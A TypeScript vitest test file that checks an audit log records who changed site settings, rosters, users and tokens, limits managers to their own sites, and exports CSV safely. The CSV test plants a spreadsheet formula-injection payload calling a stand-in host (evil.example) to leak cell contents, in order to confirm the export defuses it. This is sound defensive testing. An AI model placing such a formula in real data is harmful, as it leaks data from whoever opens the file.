// The audit log (issue 19): every change is recorded with who made it, stored in ClickHouse,
// readable by managers for their sites and by admins for all, and exportable as CSV.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createUser, makeToken, revokeToken, signIn, type Session } from '../helpers/auth.js';
import { api, startServer, type TestServer } from '../helpers/server.js';

const SITE = 'aud1';
const OTHER = 'aud2';
let server: TestServer;
let manager: Session;

interface Entry {
  at: string;
  site: string;
  actor: string;
  actor_kind: string;
  action: string;
  target: string;
  detail: Record<string, unknown> | null;
}

beforeAll(async () => {
  server = await startServer();
  await createUser(server, 'aud.manager', [{ site: SITE, role: 'manager' }]);
  await createUser(server, 'aud.viewer', [{ site: SITE, role: 'viewer' }]);
  manager = await signIn(server, 'aud.manager');
}, 120_000);
afterAll(async () => {
  await server?.dispose();
});

const entries = async (headers: Record<string, string>, query = ''): Promise<Entry[]> => {
  const res = await fetch(`${server.url}/api/audit${query}`, { headers });
  expect(res.status).toBe(200);
  return ((await res.json()) as { entries: Entry[] }).entries;
};

describe('audit log', () => {
  it('records who changed a site configuration, with the diff, and a roster upload', async () => {
    const put = (body: unknown) =>
      fetch(`${server.url}/api/sites/${SITE}`, {
        method: 'PUT',
        headers: manager.headers({ 'Content-Type': 'application/json' }),
        body: JSON.stringify(body),
      });
    expect((await put({ timezone: 'Asia/Shanghai' })).status).toBe(200);
    expect(
      (
        await put({
          timezone: 'Asia/Shanghai',
          queues: { sales: { threshold_s: 15, target: 0.9 } },
        })
      ).status,
    ).toBe(200);
    const roster = [
      {
        agent: 'a1',
        team: 't1',
        start: '2026-11-23T09:00:00+08:00',
        end: '2026-11-23T17:00:00+08:00',
        activity: 'work',
      },
    ];
    const up = await fetch(`${server.url}/api/sites/${SITE}/roster`, {
      method: 'PUT',
      headers: manager.headers({ 'Content-Type': 'application/json' }),
      body: JSON.stringify(roster),
    });
    expect(up.status).toBe(200);
    // Another site's change by the admin token.
    expect(
      (
        await api(server, `/api/sites/${OTHER}`, {
          method: 'PUT',
          headers: { 'Content-Type': 'application/json' },
          body: '{"timezone":"UTC"}',
        })
      ).status,
    ).toBe(200);

    const mine = await entries({ Cookie: manager.cookie }, `?site=${SITE}`);
    const configs = mine.filter((e) => e.action === 'site.config');
    expect(configs).toHaveLength(2);
    expect(
      configs.every((e) => e.actor === 'aud.manager' && e.actor_kind === 'user' && e.site === SITE),
    ).toBe(true);
    // Newest first: the second save changed the sales queue only.
    const changes = (configs[0]?.detail?.['changes'] ?? []) as {
      path: string;
      before: unknown;
      after: unknown;
    }[];
    expect(changes.map((c) => c.path)).toContain('queues.sales');
    expect(changes.find((c) => c.path === 'timezone')).toBeUndefined();
    const first = (configs[1]?.detail?.['changes'] ?? []) as {
      path: string;
      before: unknown;
      after: unknown;
    }[];
    expect(first.find((c) => c.path === 'timezone')?.after).toBe('Asia/Shanghai');
    const rosterEntry = mine.find((e) => e.action === 'roster.upload');
    expect(rosterEntry?.detail?.['segments']).toBe(1);
    expect(rosterEntry?.actor).toBe('aud.manager');
  });

  it('keeps a manager to their own sites and shows admins users and tokens', async () => {
    const t = await makeToken(server, 'kiosk', SITE, { label: 'TV audit' });
    await revokeToken(server, t.id);
    const asManager = await entries({ Cookie: manager.cookie });
    expect(asManager.length).toBeGreaterThan(0);
    expect(asManager.every((e) => e.site === SITE)).toBe(true);
    expect(asManager.map((e) => e.action)).toEqual(
      expect.arrayContaining(['token.create', 'token.revoke']),
    );
    const asAdmin = await entries({
      Authorization: `Bearer ${(await import('../helpers/server.js')).TEST_ADMIN_TOKEN}`,
    });
    expect(
      asAdmin.find((e) => e.action === 'user.create' && e.target === 'aud.viewer')?.actor,
    ).toBe('admin-token');
    expect(asAdmin.some((e) => e.site === OTHER && e.action === 'site.config')).toBe(true);
    // Signing in is recorded, failed attempts are not changes.
    expect(asAdmin.some((e) => e.action === 'auth.sign_in' && e.actor === 'aud.manager')).toBe(
      true,
    );
    const other = await fetch(`${server.url}/api/audit?site=${OTHER}`, {
      headers: { Cookie: manager.cookie },
    });
    expect(other.status).toBe(403);
    const viewer = await signIn(server, 'aud.viewer');
    expect(
      (await fetch(`${server.url}/api/audit?site=${SITE}`, { headers: { Cookie: viewer.cookie } }))
        .status,
    ).toBe(403);
  });

  it('exports as CSV with no cell a spreadsheet would run', async () => {
    // A display name that is a formula reaches the export as text.
    await api(server, '/api/users/aud.viewer', {
      method: 'PUT',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ display_name: '=HYPERLINK("http://evil.example/?leak="&A1,"click")' }),
    });
    const res = await api(server, '/api/audit?format=csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    const text = await res.text();
    expect(text.split('\r\n')[0]).toBe('at,site,actor,actor_kind,action,target,detail,address');
    expect(text).toContain('user.update');
    for (const line of text.split('\r\n'))
      for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@]/);
  });
});
